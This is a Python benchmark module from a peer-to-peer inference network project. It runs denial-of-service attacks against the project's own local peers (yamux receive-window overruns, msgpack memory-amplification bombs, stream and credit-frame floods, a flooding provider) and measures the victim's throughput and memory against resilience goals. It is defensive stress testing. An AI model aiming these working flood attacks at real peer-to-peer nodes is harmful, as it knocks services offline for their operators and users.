"""Hostile streams against a peer (issue 12, "One connection can run any peer out of memory"
and "msgpack amplifies memory about 74x, and CPU by about 350 ms per MiB").

Attacks for ``benchmarks/bench_hostile.py`` (``ATTACKS``; the victim is the runner's provider):

- ``yamux-window-overrun``: an inference stream announces a 1,000,000-byte frame, then sends
  DATA frames that ignore the yamux receive window, 16 MiB at a time, reconnecting whenever
  the victim cuts the connection;
- ``rejected-stream-flood``: three attackers open waves of 32 inference streams, each
  announcing a 64 MiB frame (refused at its length prefix) and then sending 250 KiB of it
  within the window, and keep every stream open for 5 s;
- ``msgpack-scalar-bomb``: 12 streams at a time send a request of 1 MiB of ``int8`` values
  (2 bytes on the wire, about 36 decoded);
- ``msgpack-container-bomb``: 12 streams at a time send a request of 64 KiB of empty arrays
  (1 byte on the wire, about 80 decoded, and a Python call each for the decoder);
- ``pre-request-credit-junk``: about 2 MB/s of ``credit`` frames as the first frame of new
  streams, each padded with 32,000 empty arrays (the finding's 2 MB/s of junk);
- ``idle-credit-flood``: kept streams, after one request each, fed ``credit`` frames that
  acknowledge nothing, as fast as the attacker can write.

The flooding provider, whose victim is a *client*, does not fit the runner's ``Target``, so
this module measures it itself: ``python benchmarks/hostile_streams.py [--quick] [--json]``.
The victim client is a Peer in this process; an honest provider runs in a worker process
(``modelnet_p2p.testing.open_worker``, one answer per call) and the hostile provider in a
child process of its own (it answers every request with 60 kB chunks as fast as it can,
ignoring credit and the yamux window). The victim calls the honest provider one call at a
time for a window, first without any attack (the baseline, measured in the same run), then
while it also calls the hostile provider, again and again (by address: no routing, no ban).
The table gives the victim's honest calls per second and p50/p99 latency beside the
baseline, as a ratio, its peak RSS growth (sampled every 50 ms) and open file descriptors,
and the goals of issue 12 (>= 0.5x the unloaded throughput, RSS growth <= the 64 MiB per-peer
budget). Other agents may share the cores: figures taken so are "loaded".
"""

from __future__ import annotations

import argparse
import json
import os
import struct
import subprocess
import sys
import time
from collections.abc import AsyncIterator, Callable
from contextlib import AbstractAsyncContextManager, AsyncExitStack, asynccontextmanager
from dataclasses import dataclass
from typing import Any

import multiaddr
import trio

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))

from hostile_common import Target, attacker_host, open_fds, percentile, rss_bytes

from modelnet_p2p.p2p.network import protocol_id
from modelnet_p2p.proto.framing import encode_varint, pack_frame
from modelnet_p2p.proto.infer import PROTOCOL_ID, Chunk, Credit, Request

MiB = 1 << 20
#: The goals of issue 12.
GOAL_RATIO = 0.5
BUDGET = 64 * MiB
#: The honest provider's capability (the worker's answers once: "answer from echo").
ECHO = [{"name": "echo"}]
#: yamux DATA frame type and header layout (the yamux spec).
TYPE_DATA = 0
HEADER = "!BBHII"


def infer_protocol(network: str = "local") -> Any:
    from libp2p.custom_types import TProtocol

    return TProtocol(protocol_id(PROTOCOL_ID, network))


async def open_stream(host: Any, target: Target) -> Any:
    from libp2p.peer.id import ID

    return await host.new_stream(ID.from_base58(target.peer_id), [infer_protocol()])


async def raw_data(stream: Any, data: bytes) -> None:
    """Send ``data`` on ``stream`` in 64 KiB yamux DATA frames, ignoring the receive window
    (a private method of py-libp2p's yamux: what a conforming muxer never does)."""
    muxed = stream.muxed_stream
    for i in range(0, len(data), 65536):
        piece = data[i : i + 65536]
        header = struct.pack(HEADER, 0, TYPE_DATA, 0, muxed.stream_id, len(piece))
        await muxed.conn._write_frame(header + piece)


async def quietly(stream: Any, how: str = "reset") -> None:
    with trio.move_on_after(2):
        try:
            await getattr(stream, how)()
        except Exception:
            pass


def request_frame(capability: str, value: Any, **kw: Any) -> bytes:
    body = Request(request_id=os.urandom(16), capability=capability, input=value, **kw).to_wire()
    return pack_frame(body, 2 * MiB)


@asynccontextmanager
async def _running(*loops: Callable[[], Any]) -> AsyncIterator[None]:
    async with trio.open_nursery() as nursery:
        for loop in loops:
            nursery.start_soon(loop)
        try:
            yield
        finally:
            nursery.cancel_scope.cancel()


async def _reconnect(host: Any, target: Target) -> None:
    from libp2p.peer.peerinfo import info_from_p2p_addr

    with trio.move_on_after(5):
        try:
            await host.connect(info_from_p2p_addr(multiaddr.Multiaddr(target.addr)))
        except Exception:
            await trio.sleep(0.2)


# -- attacks against a provider (the runner's Target) ---------------------------------------------


@asynccontextmanager
async def yamux_window_overrun(target: Target) -> AsyncIterator[None]:
    flood = encode_varint(1_000_000) + bytes(16 * MiB)
    async with attacker_host(target) as host:

        async def loop() -> None:
            while True:
                try:
                    stream = await open_stream(host, target)
                    await raw_data(stream, flood)
                    await quietly(stream)
                except Exception:
                    await _reconnect(host, target)  # the victim went away: the point

        async with _running(loop):
            yield


@asynccontextmanager
async def rejected_stream_flood(target: Target) -> AsyncIterator[None]:
    body = encode_varint(64 * MiB) + b"\x01" * (250 * 1024)
    async with AsyncExitStack() as stack:
        hosts = [await stack.enter_async_context(attacker_host(target)) for _ in range(3)]

        async def one(host: Any) -> None:
            with trio.move_on_after(6):
                try:
                    stream = await open_stream(host, target)
                except Exception:
                    await _reconnect(host, target)
                    return
                with trio.move_on_after(5):
                    try:
                        await stream.write(body)
                        await trio.sleep(5)  # kept open; the old code held its 250 KiB meanwhile
                    except Exception:
                        pass
                await quietly(stream)

        async def waves(host: Any) -> None:
            while True:
                async with trio.open_nursery() as nursery:
                    for _ in range(32):
                        nursery.start_soon(one, host)
                    await trio.sleep(0.5)

        async with _running(*(lambda h=h: waves(h) for h in hosts)):
            yield


def _bomb(frame: bytes, streams: int) -> Callable[[Target], AbstractAsyncContextManager[None]]:
    @asynccontextmanager
    async def attack(target: Target) -> AsyncIterator[None]:
        async with attacker_host(target) as host:

            async def loop() -> None:
                while True:
                    try:
                        stream = await open_stream(host, target)
                        await stream.write(frame)
                        with trio.move_on_after(5):
                            await stream.read(65536)  # an err (or, before r5, the answer)
                        await quietly(stream)
                    except Exception:
                        await _reconnect(host, target)

            async with _running(*([loop] * streams)):
                yield

    return attack


@asynccontextmanager
async def pre_request_credit_junk(target: Target) -> AsyncIterator[None]:
    junk = pack_frame({"t": "credit", "b": 1, "j": [[] for _ in range(32_000)]})  # 32 KiB
    rate = 2 * MiB / len(junk)  # frames per second
    async with attacker_host(target) as host:

        async def one() -> None:
            try:
                stream = await open_stream(host, target)
                await stream.write(junk)
                with trio.move_on_after(3):
                    await stream.read(65536)
                await quietly(stream)
            except Exception:
                await _reconnect(host, target)

        async def loop() -> None:
            async with trio.open_nursery() as nursery:
                while True:
                    nursery.start_soon(one)
                    await trio.sleep(1 / rate)

        async with _running(loop):
            yield


@asynccontextmanager
async def idle_credit_flood(target: Target) -> AsyncIterator[None]:
    nothing = pack_frame(Credit(0).to_wire()) * 64
    async with attacker_host(target) as host:

        async def loop() -> None:
            while True:
                try:
                    stream = await open_stream(host, target)
                    await stream.write(request_frame(target.capability, "x", keep=True))
                    with trio.move_on_after(10):
                        while True:
                            await stream.write(nothing)
                except Exception:
                    await _reconnect(host, target)
                await trio.sleep(0.01)

        async with _running(loop, loop):
            yield


ATTACKS: dict[str, Callable[[Target], AbstractAsyncContextManager[None]]] = {
    "yamux-window-overrun": yamux_window_overrun,
    "rejected-stream-flood": rejected_stream_flood,
    "msgpack-scalar-bomb": _bomb(request_frame("echo", [-100] * ((MiB - 256) // 2)), 12),
    "msgpack-container-bomb": _bomb(request_frame("echo", [[] for _ in range(65_000)]), 12),
    "pre-request-credit-junk": pre_request_credit_junk,
    "idle-credit-flood": idle_credit_flood,
}


# -- this module's own measurement: a flooding provider against a client ----------------------------


@dataclass
class Phase:
    name: str
    ok: int
    failed: int
    seconds: float
    latencies: list[float]
    rss_growth: int
    fds: int
    hostile_calls: int = 0

    @property
    def rate(self) -> float:
        return self.ok / self.seconds if self.seconds else 0.0

    def as_dict(self) -> dict[str, Any]:
        return {
            "name": self.name,
            "calls_per_s": round(self.rate, 1),
            "ok": self.ok,
            "failed": self.failed,
            "p50_ms": round(percentile(self.latencies, 0.5) * 1000, 1) if self.latencies else None,
            "p99_ms": round(percentile(self.latencies, 0.99) * 1000, 1) if self.latencies else None,
            "rss_growth_mib": round(self.rss_growth / MiB, 1),
            "fds": self.fds,
            "hostile_calls": self.hostile_calls,
        }


async def _flood(stream: Any) -> None:
    """The hostile provider: read the request, then 60 kB chunks in sequence, ignoring credit
    and the yamux window, until the client goes away."""
    from modelnet_p2p.proto.framing import FrameDecoder

    data = "z" * 60_000
    try:
        dec = FrameDecoder()
        while not dec.feed(await stream.read(65536)):
            pass
        seq = 0
        while True:
            batch = b"".join(pack_frame(Chunk(seq + i, data).to_wire()) for i in range(16))
            seq += 16
            await raw_data(stream, batch)
    except Exception:
        pass


async def _phase(name: str, victim: Any, honest: str, hostile: str | None, window: float) -> Phase:
    pid = os.getpid()
    start, peak, fds = rss_bytes(pid), [rss_bytes(pid)], [open_fds(pid)]
    ok = failed = 0
    latencies: list[float] = []
    hostile_calls = [0]

    async def sample() -> None:
        while True:
            peak[0] = max(peak[0], rss_bytes(pid))
            fds[0] = max(fds[0], open_fds(pid))
            await trio.sleep(0.05)

    async def attack() -> None:
        while True:  # the victim calls the hostile provider again and again (no routing, no ban)
            try:
                await victim.call(hostile, capability="echo", input="x", timeout=10)
            except Exception:
                pass
            hostile_calls[0] += 1

    async with trio.open_nursery() as nursery:
        nursery.start_soon(sample)
        if hostile is not None:
            nursery.start_soon(attack)
            await trio.sleep(0.5)
        began = time.monotonic()
        while time.monotonic() - began < window:
            t = time.monotonic()
            try:
                await victim.call(honest, capability="echo", input="x", timeout=10)
                ok += 1
                latencies.append(time.monotonic() - t)
            except Exception:
                failed += 1
        seconds = time.monotonic() - began
        nursery.cancel_scope.cancel()
    return Phase(name, ok, failed, seconds, latencies, peak[0] - start, fds[0], hostile_calls[0])


async def _hostile_provider() -> None:
    """Child process: the hostile provider; prints its address, runs until stdin closes."""
    from libp2p.custom_types import TProtocol

    from modelnet_p2p.testing import open_peers

    async with open_peers(1, gossip=False, bootstrap=[]) as (hostile,):
        hostile.host.set_stream_handler(TProtocol(hostile.infer_protocol), _flood)
        print(json.dumps({"addr": hostile.addrs[0]}), flush=True)
        pipe = trio.lowlevel.FdStream(os.dup(sys.stdin.fileno()))
        while await pipe.receive_some(4096):
            pass


async def measure(window: float) -> list[Phase]:
    from modelnet_p2p.testing import open_peers, open_worker
    from modelnet_p2p.testing.cluster import read_lines

    cmd = [sys.executable, os.path.abspath(__file__), "--hostile"]
    quiet = subprocess.DEVNULL
    async with open_worker(1, link=False, gossip=False, stderr=quiet, serve={"*": ECHO}) as worker:
        async with trio.open_nursery() as nursery:
            proc: trio.Process = await nursery.start(
                lambda task_status=trio.TASK_STATUS_IGNORED: trio.run_process(
                    cmd, stdin=subprocess.PIPE, stdout=subprocess.PIPE, check=False, task_status=task_status
                )
            )
            assert proc.stdout is not None and proc.stdin is not None
            async for line in read_lines(proc.stdout):
                hostile = json.loads(line)["addr"]
                break
            honest = worker.peers[0]["addr"]
            async with open_peers(1, gossip=False, bootstrap=[]) as (victim,):
                await victim.call(honest, capability="echo", input="x", timeout=10)
                base = await _phase("baseline", victim, honest, None, window)
                under = await _phase("flooding-provider", victim, honest, hostile, window)
            await proc.stdin.aclose()
    return [base, under]


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--quick", action="store_true", help="a 4 s window instead of 12 s")
    parser.add_argument("--json", action="store_true")
    parser.add_argument("--window", type=float, default=None)
    parser.add_argument("--hostile", action="store_true", help=argparse.SUPPRESS)
    args = parser.parse_args()
    if args.hostile:
        trio.run(_hostile_provider)
        return
    from modelnet_p2p.log import quiet_libp2p

    quiet_libp2p()
    window = args.window or (4.0 if args.quick else 12.0)
    base, under = trio.run(measure, window)
    ratio = under.rate / base.rate if base.rate else 0.0
    goals = {"throughput": ratio >= GOAL_RATIO, "memory": under.rss_growth <= BUDGET}
    if args.json:
        out = {"baseline": base.as_dict(), "attack": under.as_dict(), "ratio": ratio, "goals": goals}
        print(json.dumps(out))
        return
    b, u = base.as_dict(), under.as_dict()
    print(f"flooding provider vs a client (victim: this process's Peer), window {window:g} s")
    heads = ("calls/s", "p50 ms", "p99 ms", "RSS +MiB", "fds", "failed")
    print(f"{'':20s} " + " ".join(f"{h:>8s}" for h in heads))
    for row in (b, u):
        print(
            f"{row['name']:20s} {row['calls_per_s']:8.1f} {row['p50_ms']!s:>8s} {row['p99_ms']!s:>8s} "
            f"{row['rss_growth_mib']:8.1f} {row['fds']:8d} {row['failed']:8d}"
        )
    print(
        f"ratio {ratio:.2f}x of the baseline; hostile calls made {under.hostile_calls}; goals: "
        f"throughput >= {GOAL_RATIO}x {'met' if goals['throughput'] else 'MISSED'}, "
        f"RSS growth <= {BUDGET // MiB} MiB {'met' if goals['memory'] else 'MISSED'}"
    )


if __name__ == "__main__":
    main()
